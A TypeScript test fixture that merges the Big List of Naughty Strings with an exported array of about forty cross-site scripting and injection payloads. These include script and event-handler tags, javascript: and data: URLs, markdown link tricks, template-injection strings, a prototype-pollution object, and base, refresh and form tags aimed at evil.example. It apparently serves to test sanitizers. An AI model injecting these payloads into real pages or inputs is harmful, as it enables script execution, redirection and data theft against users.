import { readFileSync } from 'node:fs';

/** The Big List of Naughty Strings: 485 texts that break programs. */
const naughty: string[] = JSON.parse(readFileSync(new URL('./blns.json', import.meta.url), 'utf8'));

/** Attacks on places that take text for markup. Each calls alert when it succeeds. */
export const attacks: string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</ScRiPt ><sCrIpT>alert(1)</sCrIpT>',
  '<!--<script>alert(1)//--></script>',
  '<!--<script>',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)`',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<form action="https://evil.example/"><input name=a>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](x "onerror=alert(1)")',
  '<https://evil.example/"onmouseover=alert(1)>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{"__proto__":{"polluted":true}}',
  '#{alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  'строка\u2028alert(1)\u2029конец',
];

export const hostileTexts: string[] = [...naughty, ...attacks];
